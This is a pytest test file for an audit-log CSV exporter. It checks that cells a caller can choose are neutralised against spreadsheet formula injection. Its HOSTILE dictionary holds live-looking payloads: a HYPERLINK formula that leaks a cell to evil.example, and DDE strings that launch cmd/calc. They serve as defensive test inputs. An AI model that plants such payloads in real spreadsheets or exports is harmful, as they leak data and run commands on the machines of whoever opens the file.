"""The CSV export never hands a spreadsheet a formula: caller-chosen cells are neutralised (OWASP)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import anyio
import pytest
from typer.testing import CliRunner

from persona_mcp.audit import AuditEvent, AuditLog
from persona_mcp.audit.export import FORMULA_TRIGGERS, neutralised
from persona_mcp.cli.audit import app
from persona_mcp.store import create_store, upgrade

runner = CliRunner()

#: Values a caller can choose (an unknown tool name, a client name, a principal...), each a formula.
HOSTILE = {
    "tool": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "principal": "+cmd|' /C calc'!A0",
    "client_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "client_version": "-2+3+cmd|' /C calc'!A0",
    "session_id": "\t=1+1",
    "reason": "\r=1+1",
    "subject": "=1+1",
}


async def _seed(url: str, data_dir: Path) -> None:
    store = create_store(url)
    await upgrade(store)
    log = await AuditLog.open(store, data_dir=data_dir, instance_id="csv-test")
    try:
        await log.append(AuditEvent(kind="call.denied", call_id="c-1", decision="denied", **HOSTILE))
        await log.append(AuditEvent(kind="call.outcome", call_id="c-2", tool="get_account", outcome="ok"))
    finally:
        await log.aclose()
        await store.close()


def _export(sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[dict[str, str]]:
    data_dir = tmp_path / "data"
    monkeypatch.setenv("PERSONA_MCP_DATA_DIR", str(data_dir))
    monkeypatch.setenv("PERSONA_MCP_DATABASE_URL", sqlite_url)
    monkeypatch.delenv("PERSONA_MCP_CONFIG", raising=False)
    anyio.run(_seed, sqlite_url, data_dir)
    result = runner.invoke(app, ["export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.output, newline="")))


def test_no_csv_cell_starts_with_a_formula_trigger(
    sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = _export(sqlite_url, tmp_path, monkeypatch)
    assert len(rows) == 2
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_TRIGGERS), f"{column} starts a formula: {cell!r}"


def test_a_neutralised_cell_is_the_recorded_value_behind_one_quote(
    sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile = _export(sqlite_url, tmp_path, monkeypatch)[0]
    assert {column: hostile[column] for column in HOSTILE} == {
        column: f"'{value}" for column, value in HOSTILE.items()
    }


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_each_owasp_trigger_is_neutralised_and_ordinary_text_is_left_alone(trigger: str) -> None:
    assert neutralised(f"{trigger}1+1") == f"'{trigger}1+1"
    assert neutralised(f"a{trigger}1") == f"a{trigger}1"
    assert neutralised("") == ""
